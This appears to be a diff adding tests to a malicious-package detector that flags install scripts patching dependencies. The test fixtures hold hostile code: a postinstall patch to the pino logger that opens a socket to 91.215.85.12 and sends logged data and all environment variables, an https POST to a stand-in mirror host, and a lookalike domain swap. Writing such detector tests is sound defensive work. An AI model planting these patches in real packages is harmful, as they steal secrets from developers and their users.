@@ -258,8 +258,67 @@ describe('host details sent to the package’s own service (round 67)', () => {
     expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence ?? 0).toBeLessThan(0.5);
     expect(r.risk_level).toBe('clean');
   });
-  it('the same request made as soon as the package is loaded', () => {
-    const r = analyzeSource(login('login();'));
-    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.6);
+  it('the same request made as soon as the package is loaded, or to a host only like its name', () => {
+    const called = login('module.exports = { login };');
+    for (const files of [
+      login('login();'),
+      {
+        ...called,
+        'index.js': called['index.js'].replace('api.harbor-deploy.dev', 'plans.harbor-deploy-support.net'),
+      },
+    ]) {
+      const r = analyzeSource(files);
+      expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.6);
+    }
+  });
+});
+
+describe('patches an install script applies to other packages (round 65)', () => {
+  const patchOf = (added: string[]) =>
+    [
+      'diff --git a/node_modules/pino/lib/tools.js b/node_modules/pino/lib/tools.js',
+      '--- a/node_modules/pino/lib/tools.js',
+      '+++ b/node_modules/pino/lib/tools.js',
+      `@@ -40,4 +40,${4 + added.length} @@ function genLog (level, hook) {`,
+      '   return function LOG (o, ...n) {',
+      "     if (typeof o === 'object') {",
+      ...added.map((l) => `+${l}`),
+      '       if (o !== null && o.method && o.headers && o.socket) {',
+      '         o = mapHttpRequest(o)',
+    ].join('\n');
+  it('a patch giving a logger a request that ships what it logs, applied by git apply or patch-package', () => {
+    for (const [script, file] of [
+      ['git apply --directory=. patches/pino.diff', 'patches/pino.diff'],
+      ['patch-package', 'patches/pino+9.4.0.patch'],
+    ] as const) {
+      const r = analyzeSource({
+        'package.json': pkg({ scripts: { postinstall: script } }),
+        'index.js': "module.exports = require('pino');",
+        [file]: patchOf([
+          "      const net = require('net');",
+          "      const s = net.connect(7443, '91.215.85.12', () => { s.end(JSON.stringify({ o, env: process.env })); });",
+          "      s.on('error', () => {});",
+        ]),
+      });
+      expect(ruleOf(r, 'pkg.install-patches-dependency')?.confidence).toBeGreaterThanOrEqual(0.85);
+      expect(r.risk_level).toBe('critical');
+    }
+  });
+  it('quiet: a patch that fixes a bug, and the same patch shipped but not applied at install', () => {
+    const fix = patchOf(['      if (o instanceof Error) o = { err: o }']);
+    const bad = patchOf([
+      "      require('https').request({ hostname: 'logs.pino-mirror.example', method: 'POST' }).end(JSON.stringify(o));",
+    ]);
+    for (const [scripts, patch] of [
+      [{ postinstall: 'patch-package' }, fix],
+      [{ test: 'patch-package && vitest run' }, bad],
+    ] as const) {
+      const r = analyzeSource({
+        'package.json': pkg({ scripts }),
+        'index.js': "module.exports = require('pino');",
+        'patches/pino+9.4.0.patch': patch,
+      });
+      expect(ruleOf(r, 'pkg.install-patches-dependency')).toBeUndefined();
+    }
   });
 });
